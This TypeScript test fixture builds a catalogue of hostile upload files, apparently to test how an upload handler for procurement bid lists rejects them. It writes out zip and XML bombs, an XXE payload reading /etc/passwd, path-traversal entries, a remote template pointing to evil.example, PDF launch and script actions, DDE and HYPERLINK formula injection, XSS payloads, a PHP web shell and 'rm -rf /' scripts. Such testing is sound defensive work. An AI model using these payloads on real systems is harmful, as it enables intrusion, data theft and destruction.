import { gzipSync } from 'node:zlib';
import { picture } from '../uploading.js';
import { cell, LIST, row, workbook } from './whole-workbook.js';
import { type Part, zip } from './zip-by-hand.js';

/** A file that means harm. */
export interface HostileFile {
  what: string;
  name: string;
  content: Buffer;
}

const office = (kind: string, ...more: Part[]): Buffer =>
  zip([
    {
      name: '[Content_Types].xml',
      content: Buffer.from(
        `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/x.xml" ContentType="application/vnd.openxmlformats-officedocument.${kind}.main+xml"/></Types>`,
      ),
    },
    ...more,
  ]);
const xlsx = (...more: Part[]) => office('spreadsheetml.sheet', ...more);
const docx = (...more: Part[]) => office('wordprocessingml.document', ...more);
const sheet = (text: string): Part => ({ name: 'xl/worksheets/sheet1.xml', content: Buffer.from(text) });
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024);
const nested = (depth: number): Buffer =>
  depth === 0
    ? zeros(4)
    : zip([
        { name: 'a.zip', content: nested(depth - 1) },
        { name: 'b.zip', content: nested(depth - 1) },
      ]);
const relation = (target: string): Part => ({
  name: 'word/_rels/settings.xml.rels',
  content: Buffer.from(
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
  ),
});
const hugePng = () => {
  const png = picture(200);
  png.writeUInt32BE(50_000, 16);
  png.writeUInt32BE(50_000, 20);
  return png;
};
const hugeJpeg = () =>
  Buffer.concat([
    Buffer.from('ffd8ffe000104a46494600010100000100010000ffc0001108ea60ea6003012200021101031101', 'hex'),
    Buffer.alloc(200),
  ]);
const hugeWebp = () =>
  Buffer.concat([
    Buffer.from('RIFF\u0040\0\0\0WEBPVP8X\u000a\0\0\0\0\0\0\0', 'latin1'),
    Buffer.from('ffff00ffff00', 'hex'),
    Buffer.alloc(64),
  ]);
const pdf = (body: string) => Buffer.from(`%PDF-1.7\n1 0 obj\n${body}\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF`);
const laughs =
  '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><worksheet>&b;</worksheet>';
const svg = (inside: string) =>
  Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${inside}</svg>`);
const file = (what: string, name: string, content: Buffer | string): HostileFile => ({
  what,
  name,
  content: Buffer.from(content),
});

/** Files as they have been sent to others: bombs, programs, pages, pictures that are something else, names that lead elsewhere. */
export function hostileFiles(): HostileFile[] {
  return [...bombs(), ...documents(), ...lists(), ...pictures(), ...pages(), ...programs(), ...names()];
}

const bombs = () => [
  file(
    'a sheet that unfolds to a thousand times its size',
    'bomb.xlsx',
    xlsx({ name: 'xl/worksheets/sheet1.xml', content: zeros(420).fill('<c/>') }),
  ),
  file(
    'a sheet whose directory lies about its size',
    'lie.xlsx',
    xlsx({ name: 'xl/worksheets/sheet1.xml', content: zeros(60), claims: 900 }),
  ),
  file('archives in archives', 'nested.xlsx', nested(3)),
  file('archives in a document', 'nested.docx', docx({ name: 'word/embeddings/a.zip', content: nested(2) })),
  file('words that unfold to words', 'laughs.xlsx', xlsx(sheet(laughs))),
  file(
    'a word that reads a file of the server',
    'xxe.xlsx',
    xlsx(sheet(laughs.replace('"ha"', 'SYSTEM "file:///etc/passwd"'))),
  ),
  file('a packed table', 'table.csv', gzipSync(zeros(20))),
  file(
    'three thousand parts',
    'parts.xlsx',
    xlsx(...Array.from({ length: 3_000 }, (_, n) => ({ name: `xl/${n}.xml`, content: Buffer.from('<a/>') }))),
  ),
];

const documents = () => [
  file(
    'a part outside of its folder',
    'climb.xlsx',
    xlsx({ name: '../../../etc/cron.d/x.xml', content: Buffer.from('<a/>') }),
  ),
  file('a part at the root', 'root.xlsx', xlsx({ name: '/etc/passwd', content: Buffer.from('x') })),
  file(
    'a part that is a link',
    'link.xlsx',
    xlsx({ name: 'xl/link', content: Buffer.from('/etc/passwd'), mode: 0o120777 }),
  ),
  file('a document with a template elsewhere', 'template.docx', docx(relation('http://evil.example/t.dotm'))),
  file(
    'a sheet with data elsewhere',
    'outside.xlsx',
    xlsx({ name: 'xl/externalLinks/externalLink1.xml', content: Buffer.from('<externalLink/>') }),
  ),
  file(
    'a document with macros',
    'macros.docx',
    docx({ name: 'word/vbaProject.bin', content: Buffer.from('Attribute VB_Name') }),
  ),
  file(
    'a large document with macros behind its first block',
    'late.docx',
    docx(
      { name: 'word/media/a.bin', content: noise(300_000) },
      { name: 'word/vbaProject.bin', content: Buffer.from('Attribute') },
    ),
  ),
  file(
    'a document with a program inside',
    'ole.docx',
    docx({ name: 'word/embeddings/oleObject1.bin', content: Buffer.from('MZ\u0090') }),
  ),
  file('half a document', 'half.docx', docx(relation('x')).subarray(0, 120)),
  file('a PDF that runs a script', 'script.pdf', pdf('<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>')),
  file('a PDF that starts a program', 'launch.pdf', pdf('<</OpenAction<</S/Launch/F(cmd.exe)>>>>')),
  file(
    'a PDF that is a page too',
    'both.pdf',
    Buffer.concat([Buffer.from('<html><script>alert(1)</script>'), pdf('<<>>')]),
  ),
];

/** Lists of contests, whole but for one thing. */
const lists = () => [
  file(
    'a list with a cell in the last corner',
    'corner.xlsx',
    workbook(`${LIST}${row(4, [])}${cell('XFD1048576', 'x')}`),
  ),
  file(
    'a list with a row beyond all rows',
    'row.xlsx',
    workbook(`${LIST}<row r="999999999999">${cell('A999999999999', 'x')}</row>`),
  ),
  file(
    'a list with a column beyond all columns',
    'column.xlsx',
    workbook(`${LIST}<row r="4">${cell('ZZZZZZZ4', 'x')}</row>`),
  ),
  file(
    'a list with a row beyond all rows that holds nothing',
    'empty.xlsx',
    workbook(`${LIST}<row r="999999999999"/>`),
  ),
  file(
    'a list with cells that stand nowhere',
    'nowhere.xlsx',
    workbook(`${LIST}<row r="4">${cell('4', 'x')}${cell('A0', 'x')}</row>`),
  ),
  file('a list with a tag that does not end', 'tag.xlsx', workbook(`${LIST}<row ${'a="1" '.repeat(400_000)}`)),
  file(
    'a list with a text as long as a book',
    'book.xlsx',
    workbook(`${LIST}${row(4, ['C-2', 'x'.repeat(4_000_000)])}`),
  ),
  file('a list with a text longer than a cell', 'cell.xlsx', workbook(`${LIST}${row(4, ['C-2', 'x'.repeat(40_000)])}`)),
  file(
    'a list with elements in elements',
    'deep.xlsx',
    workbook(`${LIST}${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`),
  ),
  file('a list that is said to be a file of the server', 'server.xlsx', workbook(LIST, '../../../../etc/passwd')),
  file('a list that is said to be elsewhere', 'elsewhere.xlsx', workbook(LIST, 'http://127.0.0.1:1/sheet.xml')),
  file(
    'a list with characters that are none',
    'none.xlsx',
    workbook(`${LIST}${row(4, ['C-2', '2026-01-06', 'Null \0 &#0; &#xD800; &#x110000;', '5', '1'])}`),
  ),
  file(
    'a list with formulas',
    'formulas.xlsx',
    workbook(
      `${LIST}<row r="4"><c r="A4" t="str"><f>HYPERLINK("http://evil.example")</f><v>C-2</v></c>${cell('C4', '=cmd|calc!A0')}</row>`,
    ),
  ),
  file(
    'a list whose columns are named as parts of every object',
    'prototype.csv',
    'contest,date,bidder,price,won,__proto__,constructor\n__proto__,2026-01-05,constructor,1,1,x,y\n__proto__,2026-01-05,__proto__,2,0,x,y\n',
  ),
  file(
    'releases with characters that are none',
    'releases.json',
    '{"releases":[{"ocid":"a\\u0000b\\ud800","date":"2026-01-05T00:00:00Z","tender":{"id":"1","title":"\\u0000"},"bids":{"details":[{"id":"1","tenderers":[{"id":"x","name":"\\ud800"}],"value":{"amount":1,"currency":"EUR"}},{"id":"2","tenderers":[{"id":"y","name":"Y"}],"value":{"amount":2,"currency":"EUR"}}]},"awards":[{"id":"1","status":"active","date":"2026-01-05T00:00:00Z","suppliers":[{"id":"x","name":"\\ud800"}]}]}]}',
  ),
];

const pictures = () => [
  file('a picture of 2.5 thousand million points', 'flood.png', hugePng()),
  file('a photograph of as many', 'flood.jpg', hugeJpeg()),
  file('a picture for the web of as many', 'flood.webp', hugeWebp()),
  file(
    'a picture that is a page too',
    'page.png',
    Buffer.concat([picture(100), Buffer.from('<html><script>alert(1)</script></html>')]),
  ),
  file('a picture that is a script too', 'script.png', 'GIF89a/*xx*/=1;alert(1)//'),
  file('half a picture', 'half.png', picture(30)),
  file('a drawing that runs a script', 'drawing.svg', svg('<script>alert(1)</script>')),
  file(
    'a drawing with a page inside, as a picture',
    'drawing.png',
    svg('<foreignObject><iframe src="javascript:alert(1)"/></foreignObject>'),
  ),
  file(
    'a drawing that loads another, as a text',
    'drawing.txt',
    svg('<use xlink:href="data:image/svg+xml,<svg/>#x"/>'),
  ),
];

const pages = () => [
  file('a page as a text', 'page.txt', '<!doctype html><script>alert(1)</script>'),
  file(
    'a page in wide letters as a table',
    'page.csv',
    Buffer.from('\uFEFF<html><script>alert(1)</script></html>', 'utf16le'),
  ),
  file('a page behind a mark', 'mark.txt', '\uFEFF \n<script>alert(1)</script>'),
  file('a style that runs', 'style.txt', '<?xml-stylesheet href="javascript:alert(1)"?><a/>'),
  file('a page', 'index.html', '<script>alert(1)</script>'),
  file('a table of formulas', 'formulas.csv', 'a,b\n=HYPERLINK("http://evil.example"),+1\n'),
];

const programs = () => [
  file('a program as a PDF', 'offer.pdf', Buffer.concat([Buffer.from('MZ\u0090\0', 'latin1'), Buffer.alloc(500)])),
  file(
    'a program for Linux as a document',
    'offer.docx',
    Buffer.concat([Buffer.from('7f454c46', 'hex'), Buffer.alloc(500)]),
  ),
  file('a class as a picture', 'offer.jpg', Buffer.concat([Buffer.from('cafebabe00000034', 'hex'), Buffer.alloc(500)])),
  file('a script for a shell', 'run.txt', '#!/bin/sh\nrm -rf /\n'),
  file('a script for a server', 'run.csv', '<?php system($_GET["x"]);'),
  file('a script for a command line', 'start.txt', '@echo off\r\ndel *.*'),
  file(
    'what every scanner knows',
    'eicar.txt',
    'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*',
  ),
];

const names = () => [
  file('a name that climbs', '../../../etc/plan.png', picture(90)),
  file('a name that turns round', 'gnp.\u202Etxe.png', picture(91)),
  file('a name with an end in the middle', 'plan.png\0.exe', picture(92)),
  file('a name with a header', 'a"\r\nSet-Cookie: x=1.png', picture(93)),
  file('a very long name', `${'a'.repeat(4_000)}.png`, picture(94)),
  file('a name with two endings', 'offer.pdf.exe', pdf('<<>>')),
];

/** Bytes that do not pack, the same each time. */
function noise(size: number): Buffer {
  const bytes = Buffer.alloc(size);
  let state = 1;
  for (let at = 0; at < size; at += 1) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    bytes[at] = state >>> 16;
  }
  return bytes;
}
